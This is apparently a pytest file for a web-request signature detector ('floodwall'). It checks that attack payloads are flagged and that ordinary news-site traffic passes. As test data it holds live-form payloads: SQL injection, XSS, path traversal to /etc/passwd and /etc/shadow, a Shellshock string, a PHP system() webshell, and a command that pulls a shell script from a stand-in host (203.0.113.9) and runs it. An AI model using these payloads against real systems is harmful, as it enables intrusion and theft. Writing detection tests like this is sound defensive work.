"""Breach-attempt signatures: real payloads per family, and ordinary news-site traffic left alone."""

from __future__ import annotations

import polars as pl
import pytest

from floodwall.detect.signatures import HIT_SCHEMA, match_request, match_requests
from floodwall.model import Vector

UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/117.0.0.0 Safari/537.36"


def vectors(method: str, path: str, query: str | None = None, *, user_agent: str | None = None) -> set[str]:
    return {hit.vector for hit in match_request(method, path, query, user_agent=user_agent)}


@pytest.mark.parametrize(
    ("path", "query", "user_agent"),
    [
        ("/", None, "sqlmap/1.7.2#stable (https://sqlmap.org)"),
        ("/", None, "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"),
        ("/", None, "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
        ("/.git/config", None, UA),
        ("/.env", None, UA),
        ("/wp-config.php~", None, UA),
        ("/.htpasswd", None, UA),
    ],
)
def test_scanner_probes_and_sensitive_files_are_scan(path: str, query: str | None, user_agent: str) -> None:
    assert Vector.SCAN.value in vectors("GET", path, query, user_agent=user_agent)


@pytest.mark.parametrize(
    "query",
    [
        "id=1%27%20or%20%271%27%3D%271",
        "id=1+UNION+ALL+SELECT+NULL,concat(username,0x3a,password),NULL+FROM+users--",
        "cat=2%20AND%20SLEEP(5)",
        "item=1;DROP%20TABLE%20articles--",
        "user=admin%27--",
    ],
)
def test_sql_injection(query: str) -> None:
    assert Vector.SQLI.value in vectors("GET", "/article.php", query, user_agent=UA)


@pytest.mark.parametrize(
    "query",
    [
        "q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        "q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
        "next=javascript:alert(1)",
        "q=%3Csvg/onload=confirm(1)%3E",
    ],
)
def test_cross_site_scripting(query: str) -> None:
    assert Vector.XSS.value in vectors("GET", "/search", query, user_agent=UA)


@pytest.mark.parametrize(
    ("path", "query"),
    [
        ("/download.php", "file=../../../../etc/passwd"),
        ("/download.php", "file=..%2f..%2f..%2fetc%2fshadow"),
        ("/static/..%2f..%2f..%2fwindows/win.ini", None),
        ("/index.php", "page=%2e%2e%2f%2e%2e%2fproc%2fself%2fenviron"),
    ],
)
def test_path_traversal(path: str, query: str | None) -> None:
    assert Vector.PATH_TRAVERSAL.value in vectors("GET", path, query, user_agent=UA)


@pytest.mark.parametrize(
    "query",
    [
        "host=127.0.0.1%3Bcat%20/etc/passwd",
        "cmd=%7Cwget%20http://203.0.113.9/x.sh%20-O-%7Csh",
        "page=php://filter/convert.base64-encode/resource=index.php",
        "x=%3C?php%20system($_GET[%27c%27]);%20?%3E",
        "include=http://203.0.113.9/shell.txt?",
    ],
)
def test_remote_code_execution(query: str) -> None:
    assert Vector.RCE.value in vectors("GET", "/index.php", query, user_agent=UA)


def test_shellshock_in_the_user_agent_is_rce() -> None:
    hits = match_request("GET", "/cgi-bin/status", user_agent="() { :; }; /bin/bash -c 'cat /etc/passwd'")
    assert ("932170", "rce") in {(hit.rule_id, hit.vector) for hit in hits}


@pytest.mark.parametrize(
    ("path", "vector"),
    [
        ("/wp-login.php", Vector.LOGIN_BRUTEFORCE),
        ("/user/login", Vector.LOGIN_BRUTEFORCE),
        ("/administrator/index.php", Vector.LOGIN_BRUTEFORCE),
        ("/ghost/api/admin/session/", Vector.LOGIN_BRUTEFORCE),
        ("/xmlrpc.php", Vector.XMLRPC_ABUSE),
        ("/blog/xmlrpc.php", Vector.XMLRPC_ABUSE),
    ],
)
def test_floodwall_rules_mark_posts_to_login_forms_and_xmlrpc(path: str, vector: Vector) -> None:
    hits = match_request("POST", path, user_agent=UA)
    assert [(hit.vector, hit.rule_id.startswith("FW-")) for hit in hits] == [(vector.value, True)]
    assert vectors("GET", path, user_agent=UA) == set()  # reading the login page is not an attempt


NEWS_SITE = [
    ("GET", "/2023/09/01/parliament-votes-on-media-law/", "utm_source=twitter&utm_medium=social&utm_campaign=breaking"),
    (
        "GET",
        "/2023/09/01/parliament-votes-on-media-law/",
        "utm_source=facebook&utm_medium=referral&fbclid=IwAR2xYz_0aB",
    ),
    ("GET", "/2023/09/01/story/", "gclid=Cj0KCQjw0bunBhD9ARIsAAZl0E2x&utm_term=news%20today"),
    ("GET", "/news/world/europe/elections-2023-live-updates", None),
    ("GET", "/search", "q=climate+change+protests+in+paris"),
    ("GET", "/search", "q=o%27brien+interview&page=2"),
    ("GET", "/search", "q=%22press+freedom%22+index+2023"),
    ("GET", "/search", "q=select+committee+report+on+drop+in+funding"),
    ("GET", "/search", "q=who+is+the+minister+of+interior%3F"),
    ("GET", "/search", "s=sanctions+%26+the+oligarchs"),
    ("GET", "/wp-content/themes/newsroom/style.css", "ver=6.3.1"),
    ("GET", "/wp-content/uploads/2023/09/protest-1024x683.jpg", None),
    ("GET", "/wp-includes/js/jquery/jquery.min.js", "ver=3.7.0"),
    ("GET", "/wp-json/wp/v2/posts", "per_page=10&_embed=1"),
    ("GET", "/feed/", None),
    ("GET", "/tag/press-freedom/page/3/", None),
    ("GET", "/category/opinion/", "orderby=date&order=desc"),
    ("GET", "/wp-login.php", None),
    ("POST", "/wp-admin/admin-ajax.php", None),
    ("GET", "/robots.txt", None),
    ("HEAD", "/", None),
]


def news_frame() -> pl.DataFrame:
    return pl.DataFrame(
        {
            "method": [m for m, _, _ in NEWS_SITE],
            "path": [p for _, p, _ in NEWS_SITE],
            "query": [q for _, _, q in NEWS_SITE],
            "user_agent": [UA] * len(NEWS_SITE),
            "referer": ["https://www.google.com/"] * len(NEWS_SITE),
        },
        schema={
            "method": pl.String,
            "path": pl.String,
            "query": pl.String,
            "user_agent": pl.String,
            "referer": pl.String,
        },
    )


def test_ordinary_news_site_requests_are_left_alone() -> None:
    hits = match_requests(news_frame())
    assert hits.select("rule_id", "variable", "matched").rows() == []


def test_paranoia_two_is_stricter_and_flags_a_quoted_search() -> None:
    # Why the default is 1: CRS 942110 (PL2) reads a quoted phrase search as a quote-based SQL injection.
    hits = match_requests(news_frame(), paranoia=2)
    assert hits.select("rule_id", "variable").rows() == [("942110", "ARGS:q")]


def test_hits_keep_rule_field_and_matched_text_and_point_at_their_rows() -> None:
    frame = pl.DataFrame(
        {
            "method": ["GET", "GET", "GET"],
            "path": ["/a", "/search", "/b"],
            "query": [None, "q=%3Cscript%3Ealert(1)%3C/script%3E", None],
            "user_agent": [UA, UA, "sqlmap/1.7"],
            "source": ["access.log"] * 3,
            "line": [10, 11, 12],
        }
    )
    hits = match_requests(frame)
    assert hits.schema == pl.Schema(HIT_SCHEMA)
    xss = hits.filter(pl.col("rule_id") == "941100").row(0, named=True)
    assert (xss["row"], xss["line"], xss["variable"], xss["vector"]) == (1, 11, "ARGS:q", "xss")
    assert "<script>" in xss["matched"]
    scanner = hits.filter(pl.col("vector") == "scan").row(0, named=True)
    assert (scanner["line"], scanner["rule_id"], scanner["matched"]) == (12, "913100", "sqlmap")
    assert set(hits.get_column("line").to_list()) == {11, 12}


def test_a_flood_of_identical_attacks_gives_one_hit_per_request() -> None:
    frame = pl.DataFrame({"method": ["GET"] * 5000, "path": ["/p"] * 5000, "query": ["id=1%27%20or%201=1--"] * 5000})
    hits = match_requests(frame).filter(pl.col("rule_id") == "942100")
    assert hits.get_column("row").to_list() == list(range(5000))


def test_headers_and_body_from_the_edge_are_read() -> None:
    hits = match_request(
        "POST",
        "/comment",
        headers={"Cookie": "session=1%27%20or%20%271%27=%271; __utma=1%27%20or%20%271%27=%271", "X-Scanner": "x"},
        body="text=%3Cscript%3Ealert(1)%3C/script%3E",
    )
    found = {(hit.rule_id, hit.variable) for hit in hits}
    assert ("942100", "REQUEST_COOKIES:session") in found
    assert ("941100", "ARGS:text") in found
    assert not any(variable == "REQUEST_COOKIES:__utma" for _, variable in found)  # CRS excludes __utm cookies


def test_empty_frame_gives_empty_hits() -> None:
    empty = pl.DataFrame(schema={"method": pl.String, "path": pl.String, "query": pl.String})
    assert match_requests(empty).schema == pl.Schema(HIT_SCHEMA)
